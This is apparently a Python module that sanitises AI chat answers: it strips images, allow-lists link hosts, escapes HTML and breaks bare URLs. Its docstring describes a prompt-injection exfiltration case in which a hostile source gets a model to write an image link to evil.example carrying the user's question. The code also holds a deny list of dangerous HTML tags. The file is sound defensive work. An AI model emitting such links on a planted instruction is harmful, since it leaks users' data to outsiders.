"""Answer text that cannot load or link anything a source or a model planted.

A hostile document (or a model it talked into it) can write ``![x](https://evil.example/p.png?q=...)``
into an answer: the chat would fetch the image on render and hand the question, or
whatever the model was told to put there, to a stranger. So every answer, from every
generator, streamed or not, passes ``MarkupFilter`` before it is shown, stored or cached:

- images become their alt text (always: nothing in an answer needs to load);
- links keep their text; the link itself stays only when its destination is simple and
  goes to an allowed host (``LinkHosts``) or is one of the app's own paths, else the text
  reads ``text (host)``;
- raw HTML that could load or run anything (``<img>``, ``<a>``, ``<script>``, tags with
  attributes, comments, autolinks ``<https://...>``) and every HTML block start is
  backslash-escaped, so it shows as typed; bare ``<Name>`` mid-line (``a <div>``, ``List<Item>``)
  stays;
- bare ``http(s)://`` and ``www.`` URLs and ``name@host`` addresses for other hosts get
  a zero-width space after the scheme (``www``, ``@``), so no GFM renderer turns them
  into links (remark-gfm linkifies after resolving backslash escapes, so an escape would
  not do); link reference definitions (``[1]: https://...``) are escaped, so ``[x][1]``
  is plain text.

Code blocks are left verbatim (markup in code is shown, not rendered). To make sure the
renderer agrees about where code is, every fence the filter recognises is re-emitted as
a canonical fence at column 0, which no container (list, quote, HTML block) can swallow;
inline code gets no exemption, since pairing backticks is paragraph-wide and a filter
that guessed wrong would pass live markup. The filter works on deltas and holds back
only text that could still become markup, so a link split across tokens never reaches
the client whole; it runs in time linear in its input.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

# Container prefixes (indentation, block quotes, list markers) before a line's content:
# a superset of what CommonMark accepts, so every line the renderer could read as a
# fence, definition or HTML block is recognised here too.
_PREFIX = re.compile(r"(?:[ \t]*(?:>|[-+*](?=[ \t]|$)|\d{1,9}[.)](?=[ \t]|$)))*+[ \t]*+")
_FENCE_LINE = re.compile(r"(`{3,}|~{3,})(.*)")
_INFO = re.compile(r"[\w+#.-]{1,30}")
_SAFE_TAG = re.compile(r"</?([A-Za-z][A-Za-z0-9-]{0,30})/?>")
_SIMPLE_DEST = re.compile(r"\(([^\s()<>\\\[\]\"'`]{1,2048})\)")
_LINKISH = re.compile(r"(?i)https?(?=://)|www(?=\.)|@")
_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_NETLOC = re.compile(r"([A-Za-z0-9.-]{1,253})(?::\d{1,5})?")
_APP_PATH = re.compile(r"/[A-Za-z0-9_-][^\s]*|#[\w-]+")
_URL_RUN = re.compile(r"[^\s<>\\\"`]{0,2048}")
_AUTHORITY = re.compile(r"[^/?#<>()\[\]{}\"'`\s|^*,;!]{0,300}")  # bounded: a host is <= 253 chars
_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
# Tags that load, run, submit or swallow text even without attributes.
_DANGEROUS = frozenset(
    "a applet area audio base basefont bgsound body button embed form frame frameset head html "
    "iframe image img input isindex keygen link marquee math meta noembed noframes noscript "
    "object option param picture plaintext portal script select source style svg template "
    "textarea title track video xml xmp".split()
)
# Breaks a bare URL for every linkifier (remark-gfm finds URLs in text *after* backslash
# escapes are resolved, so an escape does not stop it); invisible when shown.
ZWSP = "\u200b"
MAX_HOLD_CHARS = 8192  # a line longer than this is decided without waiting for its end


class LinkHosts:
    """Hosts an answer may link to: exact names, or ``*.corp.example`` for subdomains."""

    def __init__(self, hosts: Iterable[str] = ()) -> None:
        self.exact: set[str] = set()
        self.suffixes: list[str] = []
        for h in hosts:
            h = (h or "").strip().lower().rstrip(".")
            if h.startswith("*."):
                self.suffixes.append(h[1:])
            elif h:
                self.exact.add(h)

    def allows(self, host: str) -> bool:
        host = host.lower().rstrip(".")
        return host in self.exact or any(host.endswith(s) for s in self.suffixes)

    def __iter__(self):  # type: ignore[no-untyped-def]
        return iter(sorted(self.exact | {"*" + s for s in self.suffixes}))


def url_host(url: str | None) -> str | None:
    """The host of an absolute http(s) URL, lowercased; ``None`` for anything odd.

    Odd includes user info, backslashes and percent signs in the authority: browsers and
    ``urlsplit`` disagree about those, and a disagreement is how an allowlist is fooled.
    """
    if not url or not re.match(r"(?i)https?://", url):
        return None
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    m = _NETLOC.fullmatch(parts.netloc)
    return m.group(1).lower() if m else None


class MarkupFilter:
    """Incremental sanitiser: ``feed`` deltas, get back text safe to render."""

    def __init__(self, hosts: LinkHosts | Iterable[str] = ()) -> None:
        self.hosts = hosts if isinstance(hosts, LinkHosts) else LinkHosts(hosts)
        self.removed = 0  # images, links, tags, URLs and definitions neutralised
        self._buf = ""
        self._line_start = True  # the buffer begins at a line start
        self._fence: tuple[str, int] | None = None
        self._content = False  # inside a fence: this line is known not to close it
        self._cr = False
        self._last = "\n"
        # incremental scan of the buffer for a safe cut (prose, mid-line)
        self._scan = 0
        self._depth = 0
        self._esc = False
        self._cut = 0

    # -- public -----------------------------------------------------------------------
    def feed(self, delta: str) -> str:
        if not delta:
            return ""
        if self._cr:
            delta = "\r" + delta
            self._cr = False
        if delta.endswith("\r"):
            delta, self._cr = delta[:-1], True
        self._buf += delta.replace("\r\n", "\n").replace("\r", "\n")
        out: list[str] = []
        if "\n" in self._buf:
            *lines, self._buf = self._buf.split("\n")
            for line in lines:
                out.append(self._line(line) + "\n")
            self._reset_scan()
        out.append(self._partial())
        return self._emit("".join(out))

    def flush(self) -> str:
        """End of the text: decide what is held back (an open fence stays open)."""
        out = ""
        if self._cr:
            self._cr = False
            out = self.feed("\n")
        rest, self._buf = self._buf, ""
        self._reset_scan()
        return out + self._emit(self._line(rest) if rest else "")

    def close(self) -> str:
        """Flush, and close a fence left open (so text appended later is not code)."""
        out = self.flush()
        if self._fence is not None:
            ch, n = self._fence
            out += self._emit(("" if self._last == "\n" else "\n") + ch * n + "\n")
            self._fence, self._line_start = None, True
        return out

    # -- lines --------------------------------------------------------------------------
    def _emit(self, text: str) -> str:
        if text:
            self._last = text[-1]
        return text

    def _reset_scan(self) -> None:
        self._scan = self._depth = self._cut = 0
        self._esc = False

    def _line(self, line: str) -> str:
        """A complete line (or the rest of one whose start was already emitted)."""
        at_start, self._line_start = self._line_start, True
        content, self._content = self._content, False
        if self._fence is not None:
            if at_start and not content and _closes(line, self._fence):
                ch, n = self._fence
                self._fence = None
                return ch * n
            return line
        if at_start:
            opener = _opener(line)
            if opener is not None:
                ch, n, info = opener
                self._fence = (ch, n)
                return ch * n + info
        return self._prose(line, at_start)

    def _partial(self) -> str:
        buf = self._buf
        if not buf:
            return ""
        if self._fence is not None:
            if self._line_start and not self._content:
                if _could_close(buf, self._fence):
                    return ""
                self._content = True
            self._buf, self._line_start = "", False
            return buf
        if self._line_start:
            start = _line_start_decided(buf)
            if start < 0:
                return "" if len(buf) < MAX_HOLD_CHARS else self._force()
        else:
            start = 0
        cut = self._safe_cut(max(start, 1))
        if cut <= 0:
            return "" if len(buf) < MAX_HOLD_CHARS else self._force()
        head, self._buf = buf[:cut], buf[cut:]
        at_start, self._line_start = self._line_start, False
        self._scan -= cut
        self._cut = 0
        return self._prose(head, at_start)

    def _force(self) -> str:
        """A very long line with nothing to cut at: emit it as if it ended here."""
        head, self._buf = self._buf, ""
        at_start, self._line_start = self._line_start, False
        self._reset_scan()
        if at_start and self._fence is None and _opener(head) is not None:
            return _escape_first(head)
        return self._prose(head, at_start)

    def _safe_cut(self, minimum: int) -> int:
        """Largest index after a whitespace char where every ``[`` before it is closed."""
        buf = self._buf
        for i in range(self._scan, len(buf)):
            ch = buf[i]
            if self._esc:
                self._esc = False
                continue
            if ch == "\\":
                self._esc = True
            elif ch == "[":
                self._depth += 1
            elif ch == "]":
                self._depth = max(0, self._depth - 1)
            elif ch.isspace() and self._depth == 0 and i + 1 >= minimum:
                self._cut = i + 1
        self._scan = len(buf)
        return self._cut

    # -- prose --------------------------------------------------------------------------
    def _prose(self, text: str, at_start: bool) -> str:
        out: list[str] = []
        i = 0
        if at_start:
            p = _PREFIX.match(text).end()  # type: ignore[union-attr]
            out.append(text[:p])
            i = p
            if text.startswith("<", p) and p + 1 < len(text) and _tag_start(text[p + 1]):
                out.append("\\<")
                self.removed += 1
                i = p + 1
            elif text.startswith("[", p) and _is_definition(text, p):
                out.append("\\[")
                self.removed += 1
                i = p + 1
        out.append(self._inline(text, i))
        return "".join(out)

    def _inline(self, text: str, start: int) -> str:
        match = _brackets(text)
        out: list[str] = []
        closers: dict[int, tuple[str, int]] = {}  # "]" position -> (replacement, resume)
        i, n = start, len(text)
        while i < n:
            ch = text[i]
            if i in closers:
                repl, i = closers.pop(i)
                out.append(repl)
                continue
            if ch == "\\" and i + 1 < n and text[i + 1] in _PUNCT:
                out.append(text[i : i + 2])
                i += 2
                continue
            if ch == "!" and i + 1 < n and text[i + 1] == "[" and i + 1 in match:
                if self._link(text, i + 1, match[i + 1], closers, image=True) is not None:
                    i += 2  # the image becomes its alt text
                    continue
            if ch == "[" and i in match:
                kept = self._link(text, i, match[i], closers, image=False)
                if kept is not None:
                    out.append("[" if kept else "")
                    i += 1
                    continue
            if ch == "]" and i + 1 < n and text[i + 1] == "(":
                out.append("]\\(")  # a "](" no link here produced: never a link destination
                self.removed += 1
                i += 2
                continue
            if ch == "<" and i + 1 < n and _tag_start(text[i + 1]):
                tag = _SAFE_TAG.match(text, i)
                if tag and tag.group(1).lower() not in _DANGEROUS:
                    out.append(tag.group(0))
                    i = tag.end()
                    continue
                out.append("\\<")
                self.removed += 1
                i += 1
                continue
            if ch == "&" and _ENTITY.match(text, i):
                out.append("\\&")  # shown as typed: a decoded entity could spell a URL
                i += 1
                continue
            out.append(ch)
            i += 1
        return self._defuse_links("".join(out))

    def _link(self, text: str, opener: int, closer: int, closers: dict[int, tuple[str, int]],
              *, image: bool) -> bool | None:
        """Decide ``[label](dest)`` at ``opener``; ``None`` when it is not a link at all.

        Returns whether the opening bracket stays (a kept link). The label is scanned
        as ordinary text by the caller; ``closers`` says what replaces ``](dest)``.
        """
        if not text.startswith("(", closer + 1):
            return None
        dest = _SIMPLE_DEST.match(text, closer + 1)
        self.removed += 1
        if dest is None:  # a destination with a title, spaces or brackets: never a link
            closers[closer] = ("\\(", closer + 2)
            return False
        target = dest.group(1)
        if image:
            closers[closer] = ("", dest.end())
            return False
        if self._allowed(target):
            self.removed -= 1
            closers[closer] = ("](" + target + ")", dest.end())
            return True
        host = url_host(target)
        closers[closer] = (f" ({host})" if host else "", dest.end())
        return False

    def _allowed(self, target: str) -> bool:
        if _APP_PATH.fullmatch(target) and not target.startswith(("//", "/\\")):
            return True  # the app's own pages (same origin)
        host = url_host(target)
        return host is not None and self.hosts.allows(host)

    def _defuse_links(self, text: str) -> str:
        """Break the bare URLs and addresses a GFM renderer would link, unless allowed.

        remark-gfm finds them in the *decoded* text (backslash escapes resolved), so the
        search runs on a decoded view and the break (a zero-width space after ``http``,
        ``www`` or ``@``) goes at the matching place in the source."""
        if not any(c in text for c in ":@") and "www" not in text.lower():
            return text
        chars: list[str] = []
        where: list[int] = []
        i, n = 0, len(text)
        while i < n:
            if text[i] == "\\" and i + 1 < n and text[i + 1] in _PUNCT:
                i += 1
            chars.append(text[i])
            where.append(i)
            i += 1
        decoded = "".join(chars)
        breaks: list[int] = []
        for m in _LINKISH.finditer(decoded):
            if m.group(0) == "@":
                at = m.start()
                if at == 0 or not (decoded[at - 1].isalnum() or decoded[at - 1] in "._+-"):
                    continue
                host_m = _NETLOC.match(decoded, at + 1)
                host = host_m.group(1).rstrip(".") if host_m else ""
                if "." in host and not self.hosts.allows(host):
                    breaks.append(where[at] + 1)
                continue
            scheme_end = m.end()
            auth_start = m.start() if m.group(0).lower() == "www" else scheme_end + 3
            auth_end = _AUTHORITY.match(decoded, auth_start).end()  # type: ignore[union-attr]
            host_m = _NETLOC.fullmatch(decoded, auth_start, auth_end)
            src_start = where[m.start()]
            run = _URL_RUN.match(text, src_start).end()  # type: ignore[union-attr]
            whole = run >= n or text[run].isspace()  # some renderers take "\\" and "<" into a URL
            if host_m is not None and whole and self.hosts.allows(host_m.group(1)):
                continue
            breaks.append(where[scheme_end - 1] + 1)
        if not breaks:
            return text
        self.removed += len(breaks)
        pieces, last = [], 0
        for b in breaks:
            pieces += [text[last:b], ZWSP]
            last = b
        return "".join(pieces) + text[last:]


# -- helpers ------------------------------------------------------------------------------
def _tag_start(ch: str) -> bool:
    return ch.isascii() and (ch.isalpha() or ch in "/!?")


def _escape_first(line: str) -> str:
    p = _PREFIX.match(line).end()  # type: ignore[union-attr]
    return line[:p] + "\\" + line[p:]


def _opener(line: str) -> tuple[str, int, str] | None:
    """``(char, length, info)`` when the line (after container prefixes) opens a fence."""
    p = _PREFIX.match(line).end()  # type: ignore[union-attr]
    m = _FENCE_LINE.match(line, p)
    if m is None:
        return None
    run = m.group(1)
    info = m.group(2).strip()
    info = info if _INFO.fullmatch(info) else ""
    return run[0], len(run), info


def _closes(line: str, fence: tuple[str, int]) -> bool:
    ch, n = fence
    rest = line[_PREFIX.match(line).end():]  # type: ignore[union-attr]
    body = rest.rstrip(" \t")
    return len(body) >= n and body == ch * len(body)


def _could_close(partial: str, fence: tuple[str, int]) -> bool:
    ch = fence[0]
    rest = partial[_PREFIX.match(partial).end():]  # type: ignore[union-attr]
    body = rest.rstrip(" \t")
    return body == ch * len(body) and (rest == body or len(body) >= fence[1])


def _line_start_decided(buf: str) -> int:
    """Where mid-line processing may begin, or -1 while the line's start is undecided
    (it could still be a fence, an HTML block or a link reference definition)."""
    p = _PREFIX.match(buf).end()  # type: ignore[union-attr]
    if p >= len(buf) or not buf[p:].strip():
        return -1
    head = buf[p:]
    if head[0] in "`~":
        run = len(head) - len(head.lstrip(head[0]))
        if run >= 3 or run == len(head):
            return -1  # an opener is decided at its newline
    if head[0] == "<" and len(head) < 2:
        return -1
    if head[0] == "[":
        close = _first_bracket(head, 1)
        if close < 0 or close + 1 >= len(head):
            return -1
    return p + 1


def _first_bracket(text: str, start: int) -> int:
    """Index of the first unescaped ``]`` (or ``[``) at or after ``start``; -1 if none."""
    i = start
    while i < len(text):
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch in "[]":
            return i
        i += 1
    return -1


def _is_definition(text: str, p: int) -> bool:
    """``[label]:`` at ``p``, or a label that does not close on this line (it may on the next)."""
    close = _first_bracket(text, p + 1)
    if close < 0 or text[close] == "[":
        return close < 0
    return text.startswith(":", close + 1)


def _brackets(text: str) -> dict[int, int]:
    """Matching ``[`` -> ``]`` positions (escape-aware), in one pass."""
    stack: list[int] = []
    match: dict[int, int] = {}
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch == "[":
            stack.append(i)
        elif ch == "]" and stack:
            match[stack.pop()] = i
        i += 1
    return match


def sanitize_markdown(text: str, hosts: LinkHosts | Iterable[str] = ()) -> str:
    """The whole-text form of ``MarkupFilter`` (feeding it in one piece, then flushing)."""
    f = MarkupFilter(hosts)
    return f.feed(text) + f.flush()
